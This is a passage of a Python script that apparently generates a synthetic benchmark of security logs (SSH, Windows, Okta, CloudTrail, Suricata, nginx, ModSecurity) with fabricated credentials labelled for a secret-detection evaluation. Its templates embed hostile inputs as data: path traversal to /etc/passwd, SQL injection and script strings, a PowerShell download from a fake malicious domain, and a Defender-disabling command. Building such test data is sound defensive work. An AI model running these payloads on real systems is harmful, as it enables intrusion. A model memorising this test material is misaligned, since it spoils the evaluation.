#!/usr/bin/env python3
"""audit24 held-out corpus: what a security and operations team pastes into an LLM to triage.

  gen.py SEED N OUT.jsonl

Domains: SIEM results (Splunk tables, Elastic ECS alerts, Sentinel KQL output), IDS/IPS (Suricata
eve.json, Snort fast alerts), auth logs (sshd, sudo, PAM, Windows 4624/4625/4688, Okta System Log
and Azure AD sign-in JSON), AWS CloudTrail and GuardDuty findings, GCP audit logs, nginx/Apache and
ModSecurity WAF logs with query strings, firewall logs (iptables, pfSense filterlog, Palo Alto
traffic CSV), e-mail gateway logs and phishing headers, EDR alerts with command lines (curl -u,
PGPASSWORD=, mysql -p, sshpass, Authorization headers, tokens in URLs), incident timelines,
secret-scanner and vulnerability-scanner output, Terraform plan output, Kubernetes events and
audit logs, HAR excerpts; EN and IT requests around them.

Hard negatives of those domains: event ids, request/trace/flow ids, MD5/SHA1/SHA256 of malware,
SSH key fingerprints, ARNs, AWS account and instance ids, MAC addresses, Windows SIDs and logon
ids, CVE ids, ports, epoch and ISO timestamps, pids, user-agent versions, WAF rule ids, Suricata
signature ids, OIDs, defanged domain IOCs, base64 PowerShell that decodes to nothing sensitive,
masked values ("****", "[REDACTED]", HIDDEN_DUE_TO_SECURITY_REASONS, "(sensitive value)").
~8 % evasions (zero-width, full-width, JSON \\u escapes, base64 in Basic headers and Kubernetes
secrets, percent-encoding in URLs), ~4 % judgement cases (reason in OUT.meta.jsonl).

Span conventions follow dev.jsonl: bare values (an IP without its port or brackets, a JWT without
"Bearer", a password without its quotes or the user before the colon, a credential URL from its
scheme to the end of its path, a PEM from BEGIN to END line inclusive). Private addresses
(10/8, 172.16/12, 192.168/16, fc00::/7, fe80::/10) are labelled, as in dev.jsonl; loopback,
unspecified, documentation ranges and netmasks are judgement cases left unlabelled.

Values come from ../audit16/values.py (loaded by path, not copied). Deterministic per SEED;
Python 3 standard library only; every value fabricated at run time. Self-check per case: span
bytes == value; each labelled value (decoded) passes its format/checksum; the text with labelled
spans blanked contains no other valid value of any type (retry otherwise).
"""
import base64, collections, importlib.util, ipaddress, json, os, random, re, sys, urllib.parse

_spec = importlib.util.spec_from_file_location(
    "audit16_values", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "audit16", "values.py"))
V = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(V)
rs, hexs, AN, UP, LO, DG, B64 = V.rs, V.hexs, V.AN, V.UP, V.LO, V.DG, V.B64


class F(collections.namedtuple("F", "type value enc ctx")):
    __slots__ = ()

    def __new__(cls, type, value, enc=None, ctx=""):
        return super().__new__(cls, type, value, enc, ctx)


class Retry(Exception):
    pass


def C(lang, segs, tags=(), allow=(), why=None):
    return {"lang": lang, "segs": list(segs), "tags": set(tags), "allow": set(allow), "why": why}


def J(lang, segs, why, allow=(), tags=()):
    return C(lang, segs, tags=set(tags) | {"judgement"}, allow=allow, why=why)


# ------------------------------------------------------------------ fabricated values
def pub4(r):
    return V.ipv4_make(r, "pub")


def priv4(r):
    return V.ipv4_make(r, r.choice(["p10", "p10", "p172", "p192"]))


def any4(r):
    return pub4(r) if r.random() < 0.6 else priv4(r)


def v6(r):
    return V.ipv6_make(r, r.choice(["global", "global", "full", "ula", "ll"]))


def IP(r, kind="any", ctx=""):
    v = {"pub": pub4, "priv": priv4, "any": any4, "v6": v6}[kind](r)
    return F("IP_ADDRESS", v, ctx=ctx)


def email(r, domain=None):
    return V.email_make(r, domain=domain)


CORP = ["acme-logistics.it", "northwind-bank.com", "fincantieri-lab.eu", "helios-energia.it", "brightpath.io",
        "contoso-health.co.uk", "nordwerk.de", "studio-legale-ferri.it"]
EVIL = ["dhl-track-parcel.top", "secure-m365-login.xyz", "acme-helpdesk.support", "paypa1-verify.net",
        "docusign-review.online", "invoice-portal.click", "microsoftonline-auth.info"]
USERS = ["j.doe", "mrossi", "a.bianchi", "svc_backup", "deploy", "l.moretti", "k.nguyen", "p.patel", "root", "admin",
         "oracle", "ubuntu", "test", "guest", "postgres", "git", "ftpuser", "support"]
HOSTS = ["bastion-01", "web-prod-03", "db-replica-2", "vpn-gw-mil", "jump-eu1", "k8s-node-7", "dc01", "fs02", "mail-relay-1",
         "ci-runner-4", "siem-collector", "edge-fw-02"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.91 Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "python-requests/2.31.0",
       "curl/8.5.0", "Go-http-client/1.1", "sqlmap/1.8.3#stable (https://sqlmap.org)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
       "Mozilla/5.0 zgrab/0.x", "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1017-aws exe/x86_64.ubuntu.22",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
       "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "okhttp/4.12.0"]


def uuid(r):
    return V.uuid_like(r)


def sha256(r):
    return hexs(r, 64)


def sha1(r):
    return hexs(r, 40)


def md5(r):
    return hexs(r, 32)


def acct(r):
    return str(r.randint(10 ** 11, 10 ** 12 - 1))


def inst(r):
    return "i-0" + hexs(r, 16)


def mac(r, sep=":"):
    return sep.join("%02x" % r.randrange(256) for _ in range(6))


def cve(r):
    return "CVE-%d-%d" % (r.randint(2014, 2025), r.randint(1000, 52000))


def pid(r):
    return str(r.randint(300, 65000))


def port(r):
    return str(r.randint(1025, 65535))


def epoch(r):
    return str(r.randint(1700000000, 1760000000))


def epoch_ms(r):
    while True:
        v = str(r.randint(1700000000000, 1760000000000))
        if not V.luhn_sum_ok(v):
            return v


def iso(r):
    return "2025-%02d-%02dT%02d:%02d:%02d.%03dZ" % (r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), r.randint(0, 999))


def syslog_ts(r):
    return "%s %2d %02d:%02d:%02d" % (r.choice(["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Sep", "Oct", "Nov"]), r.randint(1, 28),
                                       r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def clf_ts(r):
    return "%02d/%s/2025:%02d:%02d:%02d +0%d00" % (r.randint(1, 28), r.choice(["Jan", "Mar", "Apr", "Jun", "Sep", "Oct"]),
                                                  r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), r.choice([0, 1, 2]))


def hhmm(r):
    return "%02d:%02d" % (r.randint(0, 23), r.randint(0, 59))


def sid(r):
    return "S-1-5-21-%d-%d-%d-%d" % (r.randint(10 ** 9, 4 * 10 ** 9), r.randint(10 ** 9, 4 * 10 ** 9), r.randint(10 ** 7, 4 * 10 ** 9), r.randint(500, 5000))


def arn(r, a=None, kind=None):
    a = a or acct(r)
    kind = kind or r.choice(["role", "user", "s3", "lambda", "sg"])
    if kind == "role":
        return "arn:aws:iam::%s:role/%s" % (a, r.choice(["OrganizationAccountAccessRole", "ci-deployer", "eks-node-role", "AWSReservedSSO_AdministratorAccess_" + hexs(r, 16)]))
    if kind == "user":
        return "arn:aws:iam::%s:user/%s" % (a, r.choice(["svc-backup", "terraform", "jenkins", "legacy-app"]))
    if kind == "s3":
        return "arn:aws:s3:::%s" % r.choice(["acme-prod-logs", "finance-exports-eu", "cloudtrail-org-" + a])
    if kind == "lambda":
        return "arn:aws:lambda:eu-south-1:%s:function:%s" % (a, r.choice(["rotate-keys", "ingest", "thumbnailer"]))
    return "arn:aws:ec2:eu-west-1:%s:security-group/sg-0%s" % (a, hexs(r, 16))


def ssh_fp(r):
    return "SHA256:" + base64.b64encode(bytes(r.randrange(256) for _ in range(32))).decode().rstrip("=")


def evil_domain(r, defang=False):
    d = r.choice(["update-cdn", "msupdate-sync", "static-cloudfront", "login-verify", "cdn-jquery", "telemetry-svc"]) + r.choice(["-", ""]) + rs(r, LO + DG, 4) + "." + r.choice(["top", "xyz", "ru", "click", "info", "cc"])
    return d.replace(".", "[.]") if defang else d


def pw_safe(r, bad="\"'`\\ &#?%@/:;$,"):
    for _ in range(200):
        p = V.password_make(r)
        if not any(c in p for c in bad) and len(p) >= 8:
            return p
    return rs(r, AN, 14)


def PW(r, bad="\"'`\\ &#?%@/:;$,", ctx=""):
    return F("PASSWORD", pw_safe(r, bad), ctx=ctx)


def jwt(r):
    return V.jwt_make(r)


def cred_url(r):
    user = r.choice(["app", "etl", "svc_reporting", "grafana", "replicator", "admin", "backup"])
    p = pw_safe(r, "\"'`\\ &#?%@/:;$,[]{}")
    host = r.choice(["db-prod.internal", "pg-main.acme.lan", "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                     "redis-cache.svc.cluster.local", "mq01.northwind-bank.com", "cluster0.q8x2k.mongodb.net"])
    sch = r.choice(["postgresql", "postgres", "mysql", "mongodb", "redis", "amqp", "mssql", "ftp", "https"])
    prt = {"postgresql": 5432, "postgres": 5432, "mysql": 3306, "mongodb": 27017, "redis": 6379, "amqp": 5672, "mssql": 1433, "ftp": 21, "https": 443}[sch]
    path = r.choice(["/app", "/prod", "/0", "/", "/ledger", "/api/v2/export"])
    return "%s://%s:%s@%s:%d%s" % (sch, user, p, host, prt, path)


def gh(r):
    return V.gh_make(r)


def b64s(s):
    return base64.b64encode(s.encode()).decode()


def ps_enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


HARMLESS_PS = ["Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 | Out-File C:\\ProgramData\\top.txt",
               "Get-WmiObject Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
               "Get-ChildItem -Path C:\\Users -Recurse -Include *.docx -ErrorAction SilentlyContinue | Measure-Object",
               "Invoke-WebRequest -Uri https://%s/a.ps1 -OutFile $env:TEMP\\a.ps1",
               "Set-MpPreference -DisableRealtimeMonitoring $true",
               "Get-LocalGroupMember -Group Administrators | Format-Table Name, PrincipalSource"]


def harmless_ps(r):
    s = r.choice(HARMLESS_PS)
    if "%s" in s:
        s = s % evil_domain(r)
    return s


ASK_EN = ["Can you triage this?", "Is this a true positive?", "What happened here and what should I contain first?",
          "Summarise this for the incident ticket.", "Is this brute force or a misconfigured client?",
          "Write the timeline for the post-mortem.", "Which of these should I block at the firewall?",
          "Explain this alert to a non-technical manager.", "Draft a Sigma rule that would catch this.",
          "What is the blast radius?", "Is this lateral movement?", "Give me the next triage steps."]
ASK_IT = ["Puoi analizzare questo alert?", "È un falso positivo?", "Cosa è successo e cosa devo contenere per primo?",
          "Riassumi per il ticket dell'incidente.", "Si tratta di un brute force?", "Quali IP devo bloccare sul firewall?",
          "Scrivi la timeline per il post-mortem.", "Spiega questo evento al responsabile."]


def ask(r, lang):
    return r.choice(ASK_IT if lang == "it" else ASK_EN)


def lang_pick(r):
    return "it" if r.random() < 0.2 else "en"


def wrap(r, lang, body, before=None):
    """body: list of segments; puts a request before or after it"""
    q = ask(r, lang)
    intro = before or r.choice({"en": ["", "Got this from the SIEM:\n", "Paging alert overnight, pasting the raw events:\n",
                                       "From our SOC queue:\n", "Need a second opinion on this:\n"],
                                "it": ["", "Arrivato dal SIEM stanotte:\n", "Ecco i log grezzi:\n", "Dalla coda del SOC:\n"]}[lang])
    if r.random() < 0.5:
        return [intro + q + "\n\n"] + body
    return [intro] + body + ["\n\n" + q]


# ------------------------------------------------------------------ positive templates
def t_sshd(r):
    lang = lang_pick(r)
    host = r.choice(HOSTS)
    segs = []
    attackers = [IP(r, r.choice(["pub", "pub", "v6"])) for _ in range(r.randint(1, 3))]
    for _ in range(r.randint(3, 7)):
        a = r.choice(attackers)
        u = r.choice(USERS)
        kind = r.random()
        ts = syslog_ts(r)
        if kind < 0.6:
            segs += ["%s %s sshd[%s]: Failed password for %s%s from " % (ts, host, pid(r), r.choice(["invalid user ", ""]), u), a,
                     " port %s ssh2\n" % port(r)]
        elif kind < 0.8:
            segs += ["%s %s sshd[%s]: Connection closed by authenticating user %s " % (ts, host, pid(r), u), a,
                     " port %s [preauth]\n" % port(r)]
        else:
            segs += ["%s %s sshd[%s]: Disconnected from invalid user %s " % (ts, host, pid(r), u), a, " port %s [preauth]\n" % port(r)]
    if r.random() < 0.6:
        segs += ["%s %s sshd[%s]: Accepted publickey for deploy from " % (syslog_ts(r), host, pid(r)), IP(r, "priv"),
                 " port %s ssh2: ED25519 %s\n" % (port(r), ssh_fp(r))]
    return C(lang, wrap(r, lang, segs))


def t_sudo_pam(r):
    lang = lang_pick(r)
    host = r.choice(HOSTS)
    u = r.choice(["alice", "bob", "mrossi", "k.nguyen"])
    segs = ["%s %s sudo[%s]:    %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=" % (syslog_ts(r), host, pid(r), u, r.randint(0, 9), u)]
    k = r.randrange(3)
    if k == 0:
        segs += ["/usr/bin/mysql -h ", IP(r, "priv"), " -u root -p", PW(r), " -e SHOW DATABASES\n"]
    elif k == 1:
        segs += ["/usr/bin/env PGPASSWORD=", PW(r), " /usr/bin/pg_dump -h ", IP(r, "priv"), " -U postgres -Fc ledger\n"]
    else:
        segs += ["/usr/bin/sshpass -p ", PW(r), " ssh -o StrictHostKeyChecking=no root@", IP(r, "priv"), "\n"]
    segs += ["%s %s sshd[%s]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=" % (syslog_ts(r), host, pid(r)),
             IP(r, "pub"), "  user=%s\n" % r.choice(USERS)]
    segs += ["%s %s sudo[%s]: pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)\n" % (syslog_ts(r), host, pid(r), u, r.randint(1000, 1010))]
    return C(lang, wrap(r, lang, segs))


def t_win_4625(r):
    lang = lang_pick(r)
    code = r.choice(["4625", "4624"])
    user = r.choice(["jdoe", "mrossi", "Administrator", "svc_sql", "helpdesk01"])
    segs = ["Log Name:      Security\nSource:        Microsoft-Windows-Security-Auditing\nDate:          %s\nEvent ID:      %s\nTask Category: Logon\nKeywords:      Audit %s\nComputer:      %s.corp.acme-logistics.it\n"
            % (iso(r), code, "Failure" if code == "4625" else "Success", r.choice(HOSTS).upper())]
    segs += ["Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tLogon ID:\t\t0x0\n\nLogon Type:\t\t\t%d\n\n" % r.choice([3, 10, 3, 2])]
    segs += ["Account For Which Logon Failed:\n" if code == "4625" else "New Logon:\n",
             "\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\tACME\n" % (sid(r) if code == "4624" else "S-1-0-0", user)]
    if code == "4625":
        segs += ["\nFailure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t0xC000006A\n"]
    else:
        segs += ["\tLogon ID:\t\t0x%X\n\tLogon GUID:\t\t{%s}\n" % (r.randint(0x10000, 0xFFFFFFF), uuid(r))]
    segs += ["\nProcess Information:\n\tCaller Process ID:\t0x%x\n\tCaller Process Name:\tC:\\Windows\\System32\\svchost.exe\n\n" % r.randint(300, 9000)]
    segs += ["Network Information:\n\tWorkstation Name:\t%s\n\tSource Network Address:\t" % r.choice(["KALI", "DESKTOP-" + rs(r, UP + DG, 7), "-"]),
             IP(r, r.choice(["pub", "priv", "priv"])), "\n\tSource Port:\t\t%s\n\nDetailed Authentication Information:\n\tLogon Process:\t\tNtLmSsp \n\tAuthentication Package:\tNTLM\n\tKey Length:\t\t0" % port(r)]
    return C(lang, wrap(r, lang, segs))


def t_okta(r):
    lang = lang_pick(r)
    dom = r.choice(CORP)
    first, last = V.person(r)
    em = email(r, domain=dom)
    ip = IP(r, r.choice(["pub", "pub", "v6"]), ctx="json")
    d = [('{"uuid": "%s", "published": "%s", "eventType": "%s", "version": "0", "severity": "%s", "displayMessage": "%s",\n'
          % (uuid(r), iso(r), r.choice(["user.session.start", "user.authentication.auth_via_mfa", "user.mfa.okta_verify.deny_push", "policy.evaluate_sign_on"]),
             r.choice(["WARN", "INFO"]), r.choice(["User login to Okta", "Authentication of user via MFA", "User rejected Okta push verify"]))),
         ' "actor": {"id": "00u%s", "type": "User", "alternateId": "' % rs(r, AN, 17), F("EMAIL", em, ctx="json"), '", "displayName": "%s %s"},\n' % (first, last),
         ' "client": {"userAgent": {"rawUserAgent": "%s", "os": "Windows 10", "browser": "CHROME"}, "zone": "null", "device": "Computer", "ipAddress": "' % r.choice(UAS[:2]),
         ip, '",\n  "geographicalContext": {"city": "%s", "country": "%s", "geolocation": {"lat": %.4f, "lon": %.4f}}},\n'
         % (r.choice(["Amsterdam", "Frankfurt am Main", "Lagos", "Sao Paulo", "Milan"]), r.choice(["Netherlands", "Germany", "Nigeria", "Brazil", "Italy"]), r.uniform(-30, 60), r.uniform(-40, 30)),
         ' "outcome": {"result": "%s", "reason": "%s"},\n "transaction": {"type": "WEB", "id": "%s"},\n "authenticationContext": {"externalSessionId": "%s"}}'
         % (r.choice(["FAILURE", "SUCCESS", "DENY"]), r.choice(["INVALID_CREDENTIALS", "null", "VERIFICATION_ERROR"]), rs(r, AN, 27), "102" + rs(r, AN, 22))]
    return C(lang, wrap(r, lang, d))


def t_azure_signin(r):
    lang = lang_pick(r)
    em = email(r, domain=r.choice(CORP + ["acmelogistics.onmicrosoft.com"]))
    segs = ['{\n  "id": "%s",\n  "createdDateTime": "%s",\n  "userDisplayName": "%s %s",\n  "userPrincipalName": "' % ((uuid(r), iso(r)) + V.person(r)),
            F("EMAIL", em, ctx="json"), '",\n  "userId": "%s",\n  "appId": "%s",\n  "appDisplayName": "%s",\n  "ipAddress": "' % (uuid(r), uuid(r), r.choice(["Office 365 Exchange Online", "Azure Portal", "Microsoft Authentication Broker"])),
            IP(r, r.choice(["pub", "v6"]), ctx="json"), '",\n  "clientAppUsed": "%s",\n  "correlationId": "%s",\n  "conditionalAccessStatus": "%s",\n  "status": {"errorCode": %d, "failureReason": "%s"},\n  "location": {"city": "%s", "countryOrRegion": "%s"},\n  "riskLevelDuringSignIn": "%s"\n}'
            % (r.choice(["Browser", "IMAP4", "Authenticated SMTP", "Exchange ActiveSync"]), uuid(r), r.choice(["failure", "notApplied", "success"]),
               r.choice([50126, 50053, 50074, 0, 53003]), r.choice(["Invalid username or password or Invalid on-premise username or password.", "Account is locked.", "Other."]),
               r.choice(["Bucharest", "Ashburn", "Hong Kong", "Torino"]), r.choice(["RO", "US", "HK", "IT"]), r.choice(["high", "medium", "none"]))]
    return C(lang, wrap(r, lang, segs))


def t_cloudtrail(r):
    lang = lang_pick(r)
    a = acct(r)
    key = V.aws_akid(r, r.choice(["ASIA", "AKIA"]))
    ev = r.choice(["GetSecretValue", "CreateAccessKey", "ListBuckets", "AssumeRole", "StopLogging", "PutBucketPolicy"])
    segs = ['{\n  "eventVersion": "1.09",\n  "userIdentity": {\n    "type": "IAMUser",\n    "principalId": "AIDA%s",\n    "arn": "%s",\n    "accountId": "%s",\n    "accessKeyId": "'
            % (rs(r, UP + "234567", 17), arn(r, a, "user"), a), F("AWS_ACCESS_KEY", key, ctx="json"),
            '",\n    "userName": "%s"\n  },\n  "eventTime": "%s",\n  "eventSource": "%s",\n  "eventName": "%s",\n  "awsRegion": "%s",\n  "sourceIPAddress": "'
            % (r.choice(["svc-backup", "terraform", "legacy-app"]), iso(r)[:19] + "Z", r.choice(["iam.amazonaws.com", "secretsmanager.amazonaws.com", "s3.amazonaws.com"]), ev,
               r.choice(["eu-south-1", "us-east-1", "eu-west-1"])),
            IP(r, r.choice(["pub", "pub", "v6"]), ctx="json"), '",\n  "userAgent": "%s",\n' % UAS[8]]
    if ev == "CreateAccessKey":
        segs += ['  "responseElements": {"accessKey": {"accessKeyId": "', F("AWS_ACCESS_KEY", V.aws_akid(r, "AKIA"), ctx="json"),
                 '", "status": "Active", "secretAccessKey": "HIDDEN_DUE_TO_SECURITY_REASONS", "userName": "%s", "createDate": "%s"}},\n' % (r.choice(["backdoor-svc", "ops-temp"]), iso(r))]
    else:
        segs += ['  "requestParameters": {"secretId": "%s"},\n  "responseElements": null,\n' % arn(r, a, "lambda")]
    segs += ['  "requestID": "%s",\n  "eventID": "%s",\n  "readOnly": %s,\n  "eventType": "AwsApiCall",\n  "recipientAccountId": "%s",\n  "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256"}\n}'
             % (uuid(r), uuid(r), r.choice(["true", "false"]), a)]
    return C(lang, wrap(r, lang, segs))


def t_guardduty(r):
    lang = lang_pick(r)
    a = acct(r)
    segs = ["GuardDuty finding %s\nType: %s\nSeverity: %.1f\nAccount: %s  Region: %s\nResource: %s (%s)\n"
            % (hexs(r, 32), r.choice(["UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "Recon:IAMUser/MaliciousIPCaller.Custom",
                                      "CryptoCurrency:EC2/BitcoinTool.B!DNS", "UnauthorizedAccess:EC2/SSHBruteForce"]),
               r.choice([8.0, 5.0, 2.0, 8.0]), a, r.choice(["eu-south-1", "us-east-1"]), inst(r), arn(r, a, "role")),
            "Access key: ", F("AWS_ACCESS_KEY", V.aws_akid(r, "ASIA")), "\nremoteIpDetails.ipAddressV4: ", IP(r, "pub"),
            "\nremoteIpDetails.organization.asn: %d (%s)\nlocalIpDetails.ipAddressV4: " % (r.randint(1000, 65000), r.choice(["DIGITALOCEAN-ASN", "OVH SAS", "Hetzner Online GmbH", "CHOOPA"])),
            IP(r, "priv"), "\nservice.count: %d  firstSeen: %s  lastSeen: %s\nnetworkInterfaces[0].macAddress: %s" % (r.randint(1, 900), iso(r), iso(r), mac(r))]
    return C(lang, wrap(r, lang, segs))


def t_gcp_audit(r):
    lang = lang_pick(r)
    proj = r.choice(["acme-prod-4412", "data-lake-eu", "billing-svc-prd"])
    sa = "%s@%s.iam.gserviceaccount.com" % (r.choice(["terraform", "ci-deployer", "etl-runner"]), proj)
    segs = ['{"protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "status": {"code": %d},\n "authenticationInfo": {"principalEmail": "' % r.choice([0, 7]),
            F("EMAIL", email(r, domain=r.choice(CORP)), ctx="json"), '"},\n "requestMetadata": {"callerIp": "', IP(r, r.choice(["pub", "v6"]), ctx="json"),
            '", "callerSuppliedUserAgent": "google-cloud-sdk gcloud/471.0.0 command/gcloud.iam.service-accounts.keys.create"},\n "serviceName": "iam.googleapis.com", "methodName": "google.iam.admin.v1.CreateServiceAccountKey",\n "resourceName": "projects/-/serviceAccounts/',
            F("EMAIL", sa, ctx="json"), '"},\n "insertId": "%s", "resource": {"type": "service_account", "labels": {"project_id": "%s", "unique_id": "%s"}},\n "timestamp": "%s", "severity": "NOTICE", "logName": "projects/%s/logs/cloudaudit.googleapis.com%%2Factivity"}'
            % (rs(r, LO + DG, 12), proj, rs(r, DG, 21), iso(r), proj)]
    return C(lang, wrap(r, lang, segs))


def t_suricata(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(1, 3)):
        seq = r.random() < 0.5
        segs += ['{"timestamp":"%s+0000","flow_id":%s,"in_iface":"eth1","event_type":"alert","src_ip":"' % (iso(r)[:-1], rs(r, "123456789", 1) + rs(r, DG, 15)),
                 IP(r, r.choice(["pub", "pub", "v6"]) if seq else "priv", ctx="json"), '","src_port":%s,"dest_ip":"' % port(r),
                 IP(r, "priv" if seq else "pub", ctx="json"),
                 '","dest_port":%d,"proto":"TCP","alert":{"action":"%s","gid":1,"signature_id":%d,"rev":%d,"signature":"%s","category":"%s","severity":%d},"http":{"hostname":"%s","url":"%s","http_user_agent":"%s","status":%d}}\n'
                 % (r.choice([80, 443, 8080, 22]), r.choice(["allowed", "blocked"]), r.randint(2000000, 2050000), r.randint(1, 12),
                    r.choice(["ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", "ET EXPLOIT Apache HTTP Server Path Traversal (CVE-2021-41773)",
                              "ET POLICY curl User-Agent Outbound", "ET WEB_SERVER WebShell Generic - wget http - POST"]),
                    r.choice(["Web Application Attack", "Attempted Information Leak", "Potentially Bad Traffic"]), r.randint(1, 3),
                    r.choice(["shop.acme-logistics.it", "portal.northwind-bank.com", "api.brightpath.io"]),
                    r.choice(["/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/wp-login.php", "/.env", "/actuator/env", "/index.php?s=/index/think/app/invokefunction"]),
                    r.choice(UAS[2:8]), r.choice([200, 403, 404, 301]))]
    return C(lang, wrap(r, lang, segs))


def t_snort(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(2, 4)):
        segs += ["%s-%s  [**] [1:%d:%d] %s [**] [Classification: %s] [Priority: %d] {TCP} " % (
            "%02d/%02d" % (r.randint(1, 12), r.randint(1, 28)), "%02d:%02d:%02d.%06d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), r.randint(0, 999999)),
            r.randint(100000, 2100000), r.randint(1, 20),
            r.choice(["GPL ATTACK_RESPONSE id check returned root", "SERVER-WEBAPP Apache Struts remote code execution attempt", "PROTOCOL-ICMP PING NMAP",
                      "MALWARE-CNC Win.Trojan.AgentTesla outbound connection"]),
            r.choice(["Potentially Bad Traffic", "Attempted Administrator Privilege Gain", "A Network Trojan was detected"]), r.randint(1, 3)),
            IP(r, "pub"), ":%d -> " % r.choice([80, 443, 4444, 8443]), IP(r, "priv"), ":%s\n" % port(r)]
    return C(lang, wrap(r, lang, segs))


def t_nginx(r):
    lang = lang_pick(r)
    segs = []
    kinds = ["login", "maps", "jwt", "plain", "plain", "gh"]
    r.shuffle(kinds)
    n = r.randint(2, 5)
    have = False
    for k in kinds[:n]:
        segs += [IP(r, r.choice(["pub", "pub", "priv"])), " - - [%s] \"" % clf_ts(r)]
        if k == "login":
            u = r.choice(USERS)
            segs += ["GET /login?username=%s&password=" % u, PW(r, ctx="url"), " HTTP/1.1\" 302 0"]
            have = True
        elif k == "maps":
            segs += ["GET /api/v1/geocode?address=via+roma+12&key=", F("GOOGLE_API_KEY", V.google_key(r), ctx="url"), " HTTP/1.1\" 200 %d" % r.randint(200, 9000)]
            have = True
        elif k == "jwt":
            segs += ["GET /ws/notifications?access_token=", F("JWT", jwt(r), ctx="url"), " HTTP/1.1\" 101 0"]
            have = True
        elif k == "gh":
            segs += ["GET /hooks/deploy?token=", F("GITHUB_TOKEN", gh(r)), " HTTP/1.1\" 403 %d" % r.randint(100, 900)]
            have = True
        else:
            segs += ["%s HTTP/1.1\" %d %d" % (r.choice(["GET /static/app.%s.js" % hexs(r, 8), "POST /api/v2/orders", "GET /health", "GET /.git/config", "GET /wp-admin/setup-config.php"]),
                                               r.choice([200, 404, 304, 403]), r.randint(0, 50000))]
        segs += [" \"%s\" \"%s\" rt=%.3f uct=\"%.3f\" req_id=%s\n" % (r.choice(["-", "https://shop.acme-logistics.it/"]), r.choice(UAS), r.random(), r.random() / 10, hexs(r, 32))]
    return C(lang, wrap(r, lang, segs))


def t_modsec(r):
    lang = lang_pick(r)
    segs = ["[%s] [security2:error] [pid %s:tid %d] [client " % (r.choice(["Tue Mar 11 02:14:33.281934 2025", "Fri Jun 06 18:40:02.004511 2025"]), pid(r), r.randint(10 ** 14, 10 ** 15)),
            IP(r, "pub"), ":%s] ModSecurity: Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE' (Value: `%d' ) [file \"/etc/modsecurity/crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"81\"] [id \"%d\"] [msg \"%s\"] [data \"Matched Data: %s found within ARGS:%s\"] [severity \"CRITICAL\"] [ver \"OWASP_CRS/3.3.5\"] [hostname \"%s\"] [uri \"%s\"] [unique_id \"%s\"]"
             % (port(r), r.randint(5, 40), r.choice([949110, 942100, 941100, 930120, 932160]), r.choice(["Inbound Anomaly Score Exceeded (Total Score: 15)", "SQL Injection Attack Detected via libinjection", "XSS Attack Detected via libinjection"]),
                r.choice(["s&1c", "1' or '1'='1", "<script>"]), r.choice(["q", "id", "search"]), r.choice(["shop.acme-logistics.it", "portal.northwind-bank.com"]),
                r.choice(["/search", "/api/v1/items", "/login"]), rs(r, AN + "@-", 27))]
    if r.random() < 0.5:
        segs += ["\nRequest body excerpt: username=%s&password=" % r.choice(USERS), PW(r, ctx="url"), "&remember=1"]
    return C(lang, wrap(r, lang, segs))


def t_iptables(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(2, 4)):
        segs += ["%s %s kernel: [%d.%06d] %s IN=eth0 OUT= MAC=%s:%s:08:00 SRC=" % (syslog_ts(r), r.choice(HOSTS), r.randint(1000, 900000), r.randint(0, 999999),
                                                                               r.choice(["[UFW BLOCK]", "DROP-IN:", "[FW-INPUT-DROP]"]), mac(r), mac(r)),
                 IP(r, "pub"), " DST=", IP(r, "priv"), " LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d %sPROTO=TCP SPT=%s DPT=%d WINDOW=%d RES=0x00 SYN URGP=0\n"
                 % (r.choice([40, 44, 60]), r.randint(30, 250), r.randint(1, 65535), r.choice(["DF ", ""]), port(r), r.choice([22, 23, 445, 3389, 5900, 6379]), r.choice([1024, 29200, 65535]))]
    return C(lang, wrap(r, lang, segs))


def t_pfsense(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(2, 4)):
        segs += ["%s pfSense filterlog[%s]: %d,,,%d,igb0,match,%s,in,4,0x0,,%d,%d,0,DF,6,tcp,%d," % (syslog_ts(r), pid(r), r.randint(4, 90), r.randint(1000000000, 1000009999),
